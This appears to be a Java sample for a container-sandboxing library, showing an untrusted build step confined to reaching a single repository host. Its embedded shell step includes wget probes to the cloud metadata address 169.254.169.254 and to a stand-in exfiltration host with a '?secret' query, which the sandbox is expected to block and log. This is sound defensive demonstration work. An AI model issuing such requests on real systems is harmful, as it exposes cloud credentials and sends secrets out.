package dev.caisson.samples;

import com.sun.net.httpserver.HttpServer;
import dev.caisson.Capability;
import dev.caisson.Containers;
import dev.caisson.EgressAttempt;
import dev.caisson.EventFilter;
import dev.caisson.Execution;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Optional;

/**
 * A build step that nobody trusts and that needs its repository: it may reach that, and nothing else. Here the repository is a server of this program's; usually it is
 * {@code allow("repo.example.org:443")}.
 */
public final class OneHostOnly {
    private static final String STEP = """
            wget -q -O - http://host.docker.internal:$PORT/artifact || echo "no artifact"
            wget -q -O - http://169.254.169.254:80/latest/meta-data || echo "no metadata"
            wget -q -O - http://exfiltrate.example:80/?secret || echo "no way out"
            """;

    private OneHostOnly() {}

    /** Runs the step, and prints what it said and what it tried. */
    public static void main(String[] args) throws IOException, InterruptedException {
        try (BusyboxRootfs busybox = BusyboxRootfs.make()) {
            System.out.print(build(busybox.directory()).stdout());
            attempts().forEach(System.out::println);
        }
    }

    static Execution build(Path rootfs) throws IOException {
        HttpServer repository = HttpServer.create(new InetSocketAddress(0), 0);
        repository.createContext("/artifact", exchange -> {
            byte[] body = "the artifact\n".getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        repository.start();
        int port = repository.getAddress().getPort();
        try {
            return Containers.rootfs(rootfs).command("sh", "-c", STEP).env("PORT", "" + port)
                    .egress(e -> e.allow("host.docker.internal:" + port).denyAll())
                    .readOnly().capDrop(Capability.ALL).noNewPrivileges().user("65534:65534").memory("256m").timeout(Duration.ofSeconds(60)).execute();
        } finally {
            repository.stop(0);
        }
    }

    static List<EgressAttempt> attempts() throws InterruptedException {
        Thread.sleep(500); // what the kernel refused is told a moment later
        return Containers.engine().events().past(EventFilter.all().action(EgressAttempt.ACTION).since(Instant.EPOCH)).stream().map(EgressAttempt::of).flatMap(Optional::stream).toList();
    }
}
